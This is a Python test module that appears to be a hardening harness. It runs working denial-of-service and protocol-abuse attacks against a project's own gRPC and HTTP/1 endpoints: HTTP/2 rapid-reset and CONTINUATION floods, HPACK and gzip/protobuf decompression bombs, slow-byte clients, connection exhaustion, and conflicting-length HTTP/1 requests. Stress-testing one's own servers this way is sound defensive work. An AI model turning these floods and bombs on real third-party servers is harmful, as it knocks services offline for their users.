"""Attacks below the level of messages: malformed frames, lies about lengths, floods, slow clients and bombs.

Each attack is a coroutine with a port and a size (`Size`). It ignores how the server ends its connections: `Watch`
finds what is left behind.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import itertools
import random
import struct
import time
from collections.abc import Awaitable, Callable, Coroutine, Iterable
from dataclasses import dataclass
from typing import Any

from google.protobuf.descriptor import Descriptor, MethodDescriptor

from tests.hostile import http1, http2
from tests.hostile.examples import SKIPPED, calls_of, methods_of, path_of
from tests.hostile.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MAX_FRAME,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    ConnectionEndedError,
    Http2,
    frame,
    frame_message,
    grpc_headers,
    literal,
)
from tests.hostile.target import Port, bearer

BATCH = 200  # frames between two waits for the kernel
CONNECT_AT_ONCE = 100


@dataclass(frozen=True, slots=True)
class Size:
    """How large the attacks of a run are."""

    frames: int  # number of frames of a flood
    connections: int
    open_calls: int
    slow_s: float  # how long slow clients hold their connections
    bomb_bytes: int
    messages: int = 100  # at once, which lack their last bytes
    message_bytes: int = 4 << 20
    unfinished_s: float = 5.0
    repeat_s: float = 0.0  # an attack starts again until this time is over: gRPC soon closes a connection with a flood


SHORT = Size(frames=5_000, connections=500, open_calls=1_000, slow_s=3.0, bomb_bytes=8 << 20)
FULL = Size(
    frames=100_000, connections=2_000, open_calls=20_000, slow_s=60.0, bomb_bytes=32 << 20, message_bytes=16 << 20,
    unfinished_s=20.0, repeat_s=5.0,
)  # fmt: skip

Attack = Callable[[Port, Size], Coroutine[Any, Any, None]]


def first_call(port: Port) -> tuple[str, bytes]:
    """Path and framed messages of a valid call of the port's first method."""
    method = port.services[0].methods[0]
    return path_of(method), b"".join(frame_message(m.SerializeToString()) for m in calls_of(method)[0])


def insider(port: Port, method: str = "") -> tuple[tuple[str, str], ...]:
    """The metadata that makes calls of a method pass the check of the role or key; empty: none."""
    key = port.credentials.get(method) or port.credentials.get("")
    return bearer(key) if key else ()


async def _flood(port: Port, parts: Iterable[bytes], *, reads: bool = True) -> None:
    """Send frames until the server closes the connection."""
    async with await Http2.open(port.address, reads=reads) as connection:
        with contextlib.suppress(ConnectionEndedError, TimeoutError):
            for number, part in enumerate(parts):
                connection.send(part)
                if number % BATCH == 0:
                    async with asyncio.timeout(5.0):
                        await connection.drain()
            await (connection.ping() if reads else asyncio.sleep(0.5))


async def open_connections(port: Port, count: int, use: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
    """Open connections, a hundred at a time, and call `use` for each; close all at the end."""
    host, _, number = port.address.rpartition(":")
    opened: list[asyncio.StreamWriter] = []
    room = asyncio.Semaphore(CONNECT_AT_ONCE)

    async def connect() -> None:
        async with room:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(10.0):
                    _, writer = await asyncio.open_connection(host, int(number))
                    opened.append(writer)
                    await use(writer)

    await asyncio.gather(*(connect() for _ in range(count)))
    for writer in opened:
        writer.close()


# -- floods ----------------------------------------------------------------------------------------------------------


def _streams(count: int) -> Iterable[int]:
    return range(1, 2 * count, 2)


async def rapid_reset(port: Port, size: Size) -> None:
    """Calls that are cancelled at once."""
    path, body = first_call(port)
    block, reset = grpc_headers(path, insider(port)), struct.pack(">I", 8)
    await _flood(
        port,
        (
            frame(HEADERS, END_HEADERS, i, block) + frame(DATA, 0, i, body) + frame(RST_STREAM, 0, i, reset)
            for i in _streams(size.frames // 2)
        ),
    )


async def continuation_flood(port: Port, size: Size) -> None:
    """A header block that never ends."""
    field = literal("x-a", "b" * 100)
    first = frame(HEADERS, 0, 1, grpc_headers(first_call(port)[0]))
    await _flood(port, (first if i == 0 else frame(CONTINUATION, 0, 1, field * 10) for i in range(size.frames)))


async def empty_continuation_flood(port: Port, size: Size) -> None:
    first = frame(HEADERS, 0, 1, grpc_headers(first_call(port)[0]))
    await _flood(port, (first if i == 0 else frame(CONTINUATION, 0, 1) for i in range(size.frames)))


async def settings_flood(port: Port, size: Size) -> None:
    """SETTINGS whose acknowledgements are never read."""
    payload = http2.settings(header_table_size=4096) * 20
    await _flood(port, (frame(SETTINGS, payload=payload) for _ in range(size.frames)), reads=False)


async def large_settings_flood(port: Port, size: Size) -> None:
    """SETTINGS as large as a frame may be."""
    payload = http2.settings(header_table_size=4096) * (MAX_FRAME // 6)
    await _flood(port, (frame(SETTINGS, payload=payload) for _ in range(size.frames)), reads=False)


async def unknown_flood(port: Port, size: Size) -> None:
    """Frames of a type that does not exist."""
    await _flood(port, (frame(0xEE, 0, 0, bytes(7_500)) for _ in range(size.frames)))


async def ping_flood(port: Port, size: Size) -> None:
    """PING whose answers are never read."""
    await _flood(port, (frame(PING, payload=bytes(8)) for _ in range(size.frames)), reads=False)


async def window_update_flood(port: Port, size: Size) -> None:
    path, _ = first_call(port)
    first = frame(HEADERS, END_HEADERS, 1, grpc_headers(path, insider(port)))
    one = struct.pack(">I", 1)
    both = frame(WINDOW_UPDATE, payload=one) + frame(WINDOW_UPDATE, 0, 1, one)
    await _flood(port, (first if i == 0 else both for i in range(size.frames)))


async def priority_flood(port: Port, size: Size) -> None:
    await _flood(port, (frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 7)) for i in range(size.frames)))


async def empty_data_flood(port: Port, size: Size) -> None:
    """A call with many frames without data."""
    first = frame(HEADERS, END_HEADERS, 1, grpc_headers(first_call(port)[0], insider(port)))
    await _flood(port, (first if i == 0 else frame(DATA, 0, 1) for i in range(size.frames)))


async def many_messages(port: Port, size: Size) -> None:
    """One call with very many empty messages."""
    async with await Http2.open(port.address) as connection:
        await connection.call(first_call(port)[0], frame_message(b"") * size.frames, insider(port), within_s=10.0)


# -- headers ---------------------------------------------------------------------------------------------------------


async def huge_headers(port: Port, size: Size) -> None:
    """Headers of a megabyte: one large field, many small fields, and one field repeated by its index."""
    path, _ = first_call(port)
    indexed = b"\x40" + literal("x-i", "v" * 3000)[1:] + b"\xbe" * 15_000  # decodes to 45 MB
    for block in (literal("x-large", "v" * (1 << 20)), literal("x-small", "v") * 50_000, indexed):
        whole = grpc_headers(path, insider(port)) + block
        pieces = [whole[i : i + MAX_FRAME] for i in range(0, len(whole), MAX_FRAME)]
        frames = [frame(HEADERS, END_STREAM, 1, pieces[0])] + [frame(CONTINUATION, 0, 1, p) for p in pieces[1:]]
        frames[-1] = frames[-1][:4] + bytes([frames[-1][4] | END_HEADERS]) + frames[-1][5:]
        await _flood(port, frames)


# Beside these on the loopback interface, good streams may pause and memory may grow: gRPC's poller reads one connection
# until it is empty. A proxy in front stops them (docs/threat-model.md).
FLOODS = (
    rapid_reset, continuation_flood, empty_continuation_flood, settings_flood, large_settings_flood, unknown_flood,
    ping_flood, window_update_flood, priority_flood, empty_data_flood, huge_headers,
)  # fmt: skip


# -- malformed frames ------------------------------------------------------------------------------------------------


def violations(path: str, body: bytes) -> dict[str, bytes]:
    """Bytes after the preface that break HTTP/2, by name."""
    block = grpc_headers(path)
    call = frame(HEADERS, END_HEADERS, 1, block)
    return {
        "data on stream 0": frame(DATA, 0, 0, b"x"),
        "data on an idle stream": frame(DATA, 0, 5, body),
        "headers on stream 0": frame(HEADERS, END_HEADERS, 0, block),
        "headers on an even stream": frame(HEADERS, END_HEADERS, 2, block),
        "headers twice": call + call,
        "a lower stream id": frame(HEADERS, END_HEADERS, 9, block) + call,
        "padding longer than the frame": frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff" + block[:20]),
        "empty padded data": call + frame(DATA, PADDED, 1, b""),
        "continuation without headers": frame(CONTINUATION, END_HEADERS, 1, block),
        "another frame inside of a header block": frame(HEADERS, 0, 1, block) + frame(PING, payload=bytes(8)),
        "push promise": frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + block),
        "settings of 5 bytes": frame(SETTINGS, payload=bytes(5)),
        "settings on a stream": frame(SETTINGS, 0, 1, bytes(6)),
        "settings ack with content": frame(SETTINGS, ACK, 0, bytes(6)),
        "frame size 2^32-1": frame(SETTINGS, payload=struct.pack(">HI", 5, 2**32 - 1)),
        "window 2^32-1": frame(SETTINGS, payload=struct.pack(">HI", 4, 2**32 - 1)),
        "window 0": frame(SETTINGS, payload=struct.pack(">HI", 4, 0)) + call + frame(DATA, END_STREAM, 1, body),
        "table size 2^32-1": frame(SETTINGS, payload=struct.pack(">HI", 1, 2**32 - 1)),
        "window update of 0": frame(WINDOW_UPDATE, payload=bytes(4)),
        "window overflow": frame(WINDOW_UPDATE, payload=struct.pack(">I", 2**31 - 1)) * 3,
        "window update of 3 bytes": frame(WINDOW_UPDATE, payload=bytes(3)),
        "ping of 7 bytes": frame(PING, payload=bytes(7)),
        "ping on a stream": frame(PING, 0, 1, bytes(8)),
        "reset of an idle stream": frame(RST_STREAM, 0, 7, bytes(4)),
        "reset on stream 0": frame(RST_STREAM, 0, 0, bytes(4)),
        "goaway": frame(GOAWAY, payload=bytes(8)) + call,
        "goaway of 3 bytes": frame(GOAWAY, payload=bytes(3)),
        "unknown frame": frame(0xEE, 0xFF, 1, bytes(100)) + call,
        "a frame of 16 MB": frame(DATA, 0, 1, bytes(100), length=(1 << 24) - 1),
        "a frame that never ends": frame(HEADERS, END_HEADERS, 1, block[:9], length=1000),
        "invalid index in a header block": frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\x7f"),
        "truncated header block": frame(HEADERS, END_HEADERS, 1, block[:-3]),
        "table size update too large": frame(HEADERS, END_HEADERS, 1, b"\x3f\xff\xff\xff\xff\x07" + block),
        "huffman padding": frame(HEADERS, END_HEADERS, 1, b"\x00\x83\xff\xff\xff\x01a"),
        "no path": frame(HEADERS, END_HEADERS, 1, literal(":method", "POST") + literal(":scheme", "http")),
        "empty path": frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_headers("")),
        "path of 60 KB": frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_headers("/" + "p" * 8_000)),
        "path that is not UTF-8": frame(HEADERS, END_HEADERS, 1, literal(":path", b"/\xff\xfe/\x80") + block),
        "method GET": frame(HEADERS, END_HEADERS, 1, literal(":method", "GET") + block),
        "an upper-case name": frame(HEADERS, END_HEADERS, 1, block + literal("X-Upper", "v")),
        "line breaks in a value": frame(HEADERS, END_HEADERS, 1, block + literal("x-a", "a\r\nb: c")),
        "binary metadata that is not base64": frame(HEADERS, END_HEADERS, 1, block + literal("x-bin", "!!!!")),
        "deadline that is no number": frame(HEADERS, END_HEADERS, 1, block + literal("grpc-timeout", "99999999999H")),
        "deadline of 0": call[:0] + frame(HEADERS, END_HEADERS, 1, block + literal("grpc-timeout", "0n")) + call,
        "unknown encoding": frame(HEADERS, END_HEADERS, 1, block + literal("grpc-encoding", "lzma"))
        + frame(DATA, END_STREAM, 1, frame_message(body, flag=1)),
        "trailers without end": call + frame(HEADERS, END_HEADERS, 1, literal("x-t", "v")),
        "data after the end": call + frame(DATA, END_STREAM, 1, body) * 2,
    }


async def frame_violations(port: Port, size: Size) -> None:
    """Each violation on a connection of its own; and random bytes, TLS, HTTP/1 and a broken preface."""
    rng = random.Random(port.name)
    start = PREFACE + frame(SETTINGS)
    parts = [start + data for data in violations(*first_call(port)).values()]
    parts += [rng.randbytes(rng.randrange(1, 3000)) for _ in range(20)]
    parts += [start + rng.randbytes(rng.randrange(1, 3000)) for _ in range(40)]
    parts += [PREFACE[:-3], PREFACE[:5] + b"\0" * 30, PREFACE * 2, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"]
    parts += [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + rng.randbytes(300), b""]
    await _some_at_once(_send_once(port, data) for data in parts)


async def _some_at_once(runs: Iterable[Awaitable[Any]]) -> None:
    """Await all, ten at a time."""
    room = asyncio.Semaphore(10)

    async def one(run: Awaitable[Any]) -> None:
        async with room:
            with contextlib.suppress(OSError):
                await run

    await asyncio.gather(*map(one, runs))


async def _send_once(port: Port, data: bytes) -> None:
    """Send bytes, give the server 50 ms to close the connection, and close it."""
    host, _, number = port.address.rpartition(":")
    with contextlib.suppress(OSError, TimeoutError):
        reader, writer = await asyncio.open_connection(host, int(number))
        try:
            async with asyncio.timeout(0.05):
                writer.write(data)
                await writer.drain()
                while await reader.read(1 << 16):
                    pass
        finally:
            writer.close()


async def framing_lies(port: Port, size: Size) -> None:
    """Messages whose prefix differs from their content, with valid frames around them."""
    path, body = first_call(port)
    data = body[5:]
    packed = gzip.compress(data)
    lies = [
        b"", b"\0", body[:3], body[:-1], body + b"\0", body + body, frame_message(data, length=len(data) + 1),
        frame_message(data, length=0), frame_message(data, length=2**32 - 1), frame_message(data, length=2**31),
        frame_message(data, flag=1), frame_message(packed, flag=1), frame_message(packed[:9], flag=1),
        frame_message(data, flag=2), frame_message(data, flag=255), b"\xff" * 64, bytes(64),
    ]  # fmt: skip
    encodings = ((), (("grpc-encoding", "gzip"),), (("grpc-encoding", "identity"),))
    async with await Http2.open(port.address) as connection:
        await _some_at_once(
            connection.call(path, lie, (*insider(port), *encoding), within_s=0.1)
            for encoding in encodings
            for lie in lies
        )


# -- bombs -----------------------------------------------------------------------------------------------------------


async def bombs(port: Port, size: Size) -> None:
    """Messages that would decode to far more, to a method of each service that takes one message."""
    await _bombs(port, size, is_streamed=False)


async def stream_bombs(port: Port, size: Size) -> None:
    """The same to a method of each service that takes a stream of messages."""
    await _bombs(port, size, is_streamed=True)


async def _bombs(port: Port, size: Size, *, is_streamed: bool) -> None:
    for service in port.services:
        methods = [method for method in service.methods if method.name not in SKIPPED]
        fitting = [method for method in methods if method.client_streaming == is_streamed]
        if fitting:
            await _bombs_of(port, max(fitting, key=lambda method: bool(swelling_tags(method.input_type))), size)


async def _bombs_of(port: Port, method: MethodDescriptor, size: Size) -> None:
    """gzip, many fields, deep nesting, one huge string."""
    tags = swelling_tags(method.input_type) or [0x0A]
    many = _nested(bytes([tags[-1], 0]) * (size.bomb_bytes // 2), tags[:-1])
    deep = _nested(b"", (0x1A, 0x0A, 0x32) * 2_000)
    text = _nested(b"x" * size.bomb_bytes, (0x0A,))
    for data in (many, deep, text, bytes(size.bomb_bytes)):
        for compressed in (False, True):
            payload = frame_message(gzip.compress(data, 1) if compressed else data, flag=int(compressed))
            metadata = (*insider(port, method.name), *((("grpc-encoding", "gzip"),) if compressed else ()))
            async with await Http2.open(port.address) as connection:
                calls = (connection.call(path_of(method), payload, metadata, within_s=10.0) for _ in range(2))
                await asyncio.gather(*calls, return_exceptions=True)


async def unfinished_messages(port: Port, size: Size) -> None:
    """Calls on one connection, of all methods in turn, whose large messages lack their last bytes."""
    unfinished = frame_message(bytes(size.message_bytes - 10), length=size.message_bytes)
    methods = itertools.cycle(methods_of(*port.services))
    async with await Http2.open(port.address) as connection:

        async def call(method: MethodDescriptor) -> None:
            stream_id = connection.begin(path_of(method), insider(port, method.name))
            ended = connection.outcome(stream_id)
            await connection.write(stream_id, unfinished)
            await ended

        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(size.unfinished_s):
                calls = (call(next(methods)) for _ in range(size.messages))
                await asyncio.gather(*calls, return_exceptions=True)


def swelling_tags(descriptor: Descriptor, depth: int = 4) -> list[int]:
    """Tags of nested fields, the last of which is a repeated message or text: two bytes of it decode to an object.

    Empty if there is none.
    """
    fields = [field for field in descriptor.fields if field.number < 16]
    for field in fields:
        if field.is_repeated and (field.message_type is not None or field.type == field.TYPE_STRING):
            return [field.number << 3 | 2]
    for field in fields:
        if depth and field.message_type is not None and (tags := swelling_tags(field.message_type, depth - 1)):
            return [field.number << 3 | 2, *tags]
    return []


def _nested(data: bytes, tags: Iterable[int]) -> bytes:
    """The data inside of length-delimited fields, the last tag innermost."""
    for tag in reversed(list(tags)):
        length, out = len(data), bytearray([tag])
        while length > 127:
            out.append(length & 127 | 128)
            length >>= 7
        data = bytes(out) + bytes([length]) + data
    return data


# -- connections and slow clients ------------------------------------------------------------------------------------


async def idle_connections(port: Port, size: Size) -> None:
    """Connections that send nothing, a part of the preface, or only the preface."""
    starts = itertools.cycle((b"", PREFACE[:7], PREFACE + frame(SETTINGS)))

    async def use(writer: asyncio.StreamWriter) -> None:
        writer.write(next(starts))

    await open_connections(port, size.connections, use)


async def connect_and_close(port: Port, size: Size) -> None:
    async def use(writer: asyncio.StreamWriter) -> None:
        writer.write(PREFACE + frame(SETTINGS))
        writer.close()

    await open_connections(port, size.connections, use)


async def open_calls(port: Port, size: Size) -> None:
    """Calls whose messages never arrive."""
    block = grpc_headers(first_call(port)[0], insider(port))
    await _flood(port, (frame(HEADERS, END_HEADERS, i, block) for i in _streams(size.open_calls)))


async def unread_answers(port: Port, size: Size) -> None:
    """Calls whose answers are never read: the windows of the client are 0."""
    path, body = first_call(port)
    watch = ("/grpc.health.v1.Health/Watch", frame_message(b""))
    async with await Http2.open(port.address, window=0, reads=False) as connection:
        with contextlib.suppress(ConnectionEndedError, TimeoutError):
            for i in range(size.open_calls // 5):
                name, data = watch if i % 2 else (path, body)
                stream_id = connection.begin(name, insider(port))
                connection.send(frame(DATA, END_STREAM, stream_id, data))
                if i % BATCH == 0:
                    async with asyncio.timeout(5.0):
                        await connection.drain()
            await asyncio.sleep(min(1.0, size.slow_s))


async def slow_bytes(port: Port, size: Size) -> None:
    """Clients that send a valid call one byte at a time."""
    path, body = first_call(port)
    whole = PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, grpc_headers(path, insider(port)))
    whole += frame(DATA, END_STREAM, 1, body)
    await _trickle(port, [whole, whole[30:], whole[:40] + whole[60:]], size)


async def _trickle(port: Port, texts: list[bytes], size: Size) -> None:
    """Send each text one byte every 20 ms, on 20 connections each, for `slow_s` seconds."""
    host, _, number = port.address.rpartition(":")
    until = asyncio.get_running_loop().time() + size.slow_s

    async def client(text: bytes) -> None:
        with contextlib.suppress(OSError, TimeoutError):
            _, writer = await asyncio.open_connection(host, int(number))
            for byte in text:
                if asyncio.get_running_loop().time() > until or writer.is_closing():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.02)
            writer.close()

    await asyncio.gather(*(client(text) for text in texts for _ in range(20)))


GRPC_ATTACKS: tuple[Attack, ...] = (
    frame_violations, framing_lies, *FLOODS, many_messages, bombs, stream_bombs, unfinished_messages,
    open_calls, unread_answers, idle_connections, connect_and_close, slow_bytes,
)  # fmt: skip


# -- HTTP/1 ----------------------------------------------------------------------------------------------------------

BODY = b'{"prompt": "Return a new", "max_tokens": 4}'


def malformed_requests(path: str, fields: dict[str, str]) -> list[bytes]:
    """Requests that break HTTP/1 or lie about the length of their body."""
    key = "".join(f"{name}: {value}\r\n" for name, value in fields.items()).encode()
    post = f"POST {path} HTTP/1.1\r\nHost: x\r\n".encode() + key
    get = f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode() + key
    chunked = post + b"Transfer-Encoding: chunked\r\n\r\n"
    return [
        b"\r\n\r\n", b"GET\r\n\r\n", b"GET  HTTP/1.1\r\n\r\n", b"G" * 70_000, b"GET / HTTP/9.9\r\n\r\n",
        b"GET " + b"/a" * 40_000 + b" HTTP/1.1\r\n\r\n", get + b"X: " + b"v" * 100_000 + b"\r\n\r\n",
        get + b"x: y\r\n" * 20_000 + b"\r\n", get + b"no colon\r\n\r\n", get + b"\0: \0\r\n\r\n",
        get + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello", get + b": empty\r\n\r\n",
        post + b"Content-Length: -1\r\n\r\n", post + b"Content-Length: 99999999999999999999\r\n\r\nx",
        post + b"Content-Length: abc\r\n\r\n", post + b"Content-Length: 1000\r\n\r\n" + BODY,
        post + b"Content-Length: 3\r\n\r\n" + BODY,
        post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        chunked + b"zz\r\n", chunked + b"-1\r\nx\r\n", chunked + b"fffffffffffffffff\r\nx", chunked + b"5\r\nhello",
        chunked + b"1;" + b"e" * 70_000 + b"\r\nx\r\n", chunked + b"1\r\nx\r\n" * 20_000 + b"0\r\n\r\n",
        post + b"Content-Encoding: gzip\r\nContent-Length: 40\r\n\r\n" + gzip.compress(bytes(1 << 20))[:40],
        post + b"Expect: 100-continue\r\nContent-Length: 10\r\n\r\n",
        get + b"Upgrade: h2c\r\nConnection: upgrade\r\n\r\n",
        get + b"Range: bytes=0-,0-,0-\r\n\r\n", get + b"Accept: " + b"a/b;version=x," * 3_000 + b"\r\n\r\n",
        (get + b"\r\n") * 500, PREFACE + frame(SETTINGS), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(300),
    ]  # fmt: skip


async def http_violations(port: Port, size: Size) -> None:
    rng = random.Random(port.name)
    fields = dict(insider(port))
    noise = [rng.randbytes(rng.randrange(1, 3000)) for _ in range(30)]
    requests = [*malformed_requests(port.path, fields), *malformed_requests("/v1/completions", fields), *noise]
    await _some_at_once(http1.exchange(port.address, data, within_s=0.2) for data in requests)


async def http_bombs(port: Port, size: Size) -> None:
    """Bodies that are deep, long or full of small values."""
    fields = dict(insider(port))
    depth = 100_000
    bodies = [
        b"[" * depth, b'{"a":' * depth, b'{"messages": ' + b"[" * depth + b"]" * depth + b"}", b"1" * 100_000,
        b'{"seed": ' + b"9" * 100_000 + b"}", b'{"prompt": "' + b"x" * size.bomb_bytes + b'"}',
        b'{"prompt": [' + b"1," * (size.bomb_bytes // 4) + b"1]}",
        b'{"a": [' + b"{}," * (size.bomb_bytes // 6) + b"{}]}",
        b'{"messages": [' + b'{"role": "user", "content": ""},' * 100_000 + b'{"role": "user", "content": "a"}]}',
        b'{"prompt": "' + b"\\u0000" * 100_000 + b'"}', b'{"prompt": "\\ud800"}', b'{"prompt": "\xff\xfe"}',
    ]  # fmt: skip
    for body in bodies:
        with contextlib.suppress(OSError):
            await http1.exchange(port.address, http1.post_json("/v1/chat/completions", body, fields), within_s=20.0)
            await http1.exchange(port.address, http1.post_json("/v1/completions", body, fields), within_s=20.0)


async def http_idle_connections(port: Port, size: Size) -> None:
    starts = itertools.cycle((b"", b"GET / HT", b"POST /v1/completions HTTP/1.1\r\nContent-Length: 100\r\n\r\n"))

    async def use(writer: asyncio.StreamWriter) -> None:
        writer.write(next(starts))

    await open_connections(port, size.connections, use)


async def http_connect_and_close(port: Port, size: Size) -> None:
    async def use(writer: asyncio.StreamWriter) -> None:
        writer.write(http1.request("GET", port.path))
        writer.close()

    await open_connections(port, size.connections, use)


async def http_unfinished_bodies(port: Port, size: Size) -> None:
    """Large bodies that lack their last bytes."""
    unfinished = http1.post_json("/v1/completions", bytes(size.message_bytes), dict(insider(port)))[:-10]
    runs = (http1.exchange(port.address, unfinished, within_s=size.unfinished_s) for _ in range(size.messages))
    await asyncio.gather(*runs, return_exceptions=True)


async def http_small_chunks(port: Port, size: Size) -> None:
    """A body in chunks of one byte, and headers in lines of four bytes, each on four connections."""
    fields = {"Transfer-Encoding": "chunked", "Content-Type": "application/json", **dict(insider(port))}
    chunks = http1.request("POST", "/v1/completions", fields) + b"1\r\n \r\n" * (5 * size.frames) + b"0\r\n\r\n"
    head = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a:b\r\n" * 10_000 + b"\r\n"
    runs = (http1.exchange(port.address, data, within_s=20.0) for data in (chunks, head * 20) for _ in range(4))
    await asyncio.gather(*runs, return_exceptions=True)


async def http_slow_bytes(port: Port, size: Size) -> None:
    fields = dict(insider(port))
    texts = [http1.request("GET", port.path, fields), http1.post_json("/v1/completions", BODY, fields)]
    await _trickle(port, texts, size)


HTTP_ATTACKS: tuple[Attack, ...] = (
    http_violations, http_bombs, http_unfinished_bodies, http_idle_connections, http_connect_and_close, http_slow_bytes,
    http_small_chunks,
)  # fmt: skip


async def launch(attack: Attack, port: Port, size: Size) -> None:
    """Run an attack. A port that refuses connections is no error here: `Watch` reports it."""
    until = time.monotonic() + size.repeat_s
    with contextlib.suppress(OSError):
        await attack(port, size)
        while time.monotonic() < until:
            await attack(port, size)


def attacks_on(port: Port) -> tuple[Attack, ...]:
    return GRPC_ATTACKS if port.is_grpc else HTTP_ATTACKS
